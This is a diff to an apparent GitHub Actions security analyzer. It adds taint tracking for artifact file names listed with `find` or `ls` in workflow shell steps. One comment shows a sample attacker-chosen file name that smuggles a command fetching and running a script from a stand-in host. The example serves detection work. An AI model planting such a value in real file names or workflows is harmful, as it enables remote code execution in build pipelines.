@@ -1,7 +1,7 @@
 import type { Severity } from '../../../core/finding.js';
 import { get, isYMap, text } from '../yaml/tree.js';
 import { attackerContext } from './contexts.js';
-import { artifactFolders, downloadedFile, inFolders } from './artifacts.js';
+import { artifactFolders, downloadedFile, downloadedNames, inFolders } from './artifacts.js';
 import { dataflowParts, parseExpression } from './expression.js';
 import { endOfJob, matrixLeaves, matrixReferences, neededJobs } from './flow.js';
 import { PRIVILEGED_TRIGGERS, envScopes, expressions, inputDeclarations, parseUses, withValue, workflowRunFromMaintainers, workflowRunNames, type Job, type Step, type Workflow } from './model.js';
@@ -107,7 +107,14 @@ function taintedOutputs(wf: Workflow, step: Step, base: Omit<Taint, 'env' | 'out
       for (const write of githubScriptTaint(wf, earlier, taintHere())) if (write.kind === 'output') setWritten(outputs, id, write.name, write.source);
     if (!earlier.run || typeof earlier.run.value !== 'string' || !/GITHUB_OUTPUT|::set-output/.test(earlier.run.value)) continue;
     const taint = taintHere();
-    const read = (line: string): string | undefined => (folders ? artifactRead(line, folders) : undefined);
+    // What a line takes from the downloaded files: a file's content, or the names of the files in a folder (`$(find dist -name '*.whl')`).
+    const read = (line: string): string | undefined => {
+      if (!folders) return undefined;
+      const file = artifactRead(line, folders);
+      if (file !== undefined) return downloadedFile(file);
+      const listed = artifactListing(line, folders);
+      return listed === undefined ? undefined : downloadedNames(listed);
+    };
     const shell = new Set<string>();
     for (const line of earlier.run.value.split('\n')) {
       if (/^\s*#/.test(line)) continue;
@@ -115,7 +122,7 @@ function taintedOutputs(wf: Workflow, step: Step, base: Omit<Taint, 'env' | 'out
       const assigned = /^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=/.exec(line)?.[1] ?? /^\s*read\s+(?:-r\s+)?([A-Za-z_]\w*)\s*</.exec(line)?.[1];
       const readFile = read(line);
       if (assigned && readFile !== undefined && !/\$\{?GITHUB_OUTPUT\b/.test(line)) {
-        taint.env.set(assigned, { text: downloadedFile(readFile) });
+        taint.env.set(assigned, { text: readFile });
         shell.add(assigned);
         continue;
       }
@@ -124,7 +131,7 @@ function taintedOutputs(wf: Workflow, step: Step, base: Omit<Taint, 'env' | 'out
         : /::set-output\s+name=([\w-]+)::/.exec(line)?.[1];
       // `cat pr/outputs.txt >> "$GITHUB_OUTPUT"`: the file names the outputs and gives their values.
       if (!name && readFile !== undefined && /\$\{?GITHUB_OUTPUT\b/.test(line)) {
-        setWritten(outputs, id, undefined, { text: downloadedFile(readFile) });
+        setWritten(outputs, id, undefined, { text: readFile });
         continue;
       }
       if (!name) continue;
@@ -132,7 +139,7 @@ function taintedOutputs(wf: Workflow, step: Step, base: Omit<Taint, 'env' | 'out
       const from =
         worst(expressions(line).map((e) => untrustedSource(e.inner, taint, wf))) ??
         (variable ? { ...variable.source, text: shell.has(variable.name) ? variable.source.text : `env.${variable.name}` } : undefined) ??
-        (readFile !== undefined ? { text: downloadedFile(readFile) } : undefined);
+        (readFile !== undefined ? { text: readFile } : undefined);
       if (from) setWritten(outputs, id, name, from);
     }
   }
@@ -207,6 +214,40 @@ function filesOf(command: string, words: string[]): string[] {
     else if (!word.startsWith('-')) rest.push(word);
   }
   return command === 'jq' ? rest.slice(1) : rest;
+}
+
+/**
+ * `find DIR ...` or `ls DIR` at the start of a command (in `$(...)` too), with what follows it
+ * up to the end of its pipeline: the names they print are the files' names.
+ */
+const FILE_LISTER = /(?:^|\$\(|`|[;{(]|&&|\|\|)\s*(find|ls)((?:\s+[^\s|)<>;&`]+)*)([^)<>;&`]*)/g;
+
+/** Options of find that come before its paths (`-L`, `-H`, `-P`, `-O3`, `-D opts`). */
+const FIND_LEADING = /^-(?:[HLP]|O\d*|D)$/;
+
+/**
+ * A folder (or file pattern) of the downloaded artifacts whose file names a line of shell
+ * prints: `$(find dist -name '*.whl')`, `ls -1 dist/*.whl`. A file's name is the fork's to
+ * choose (`x;curl${IFS}example.org|sh;.whl` is one), like its content. A count of them
+ * (`| wc -l`, `| grep -c`) is no name.
+ */
+function artifactListing(line: string, folders: readonly string[]): string | undefined {
+  if (/<<</.test(line)) return undefined;
+  for (const m of line.matchAll(FILE_LISTER)) {
+    if (/\|\s*(?:wc\b|grep\s+(?:-\w*c\b|--count\b))/.test(m[3] ?? '')) continue;
+    const words = (m[2] ?? '').match(/'[^']*'|"[^"]*"|\S+/g) ?? [];
+    const paths: string[] = [];
+    if (m[1] === 'find') {
+      let i = 0;
+      while (i < words.length && FIND_LEADING.test(words[i]!)) i += words[i] === '-D' ? 2 : 1;
+      for (; i < words.length && !/^[-(!]/.test(words[i]!); i++) paths.push(words[i]!);
+    } else paths.push(...words.filter((w) => !w.startsWith('-')));
+    // With no path both list the working directory, the workspace.
+    if (paths.length === 0) paths.push('.');
+    const found = paths.find((p) => inFolders(p, folders));
+    if (found) return found.replace(/^["']|["']$/g, '');
+  }
+  return undefined;
 }
 
 /** A file of the downloaded artifacts that a line of shell reads (`$(cat pr/sha.txt)`, `jq -r .sha pr.json`, `< pr/number`), if any. */
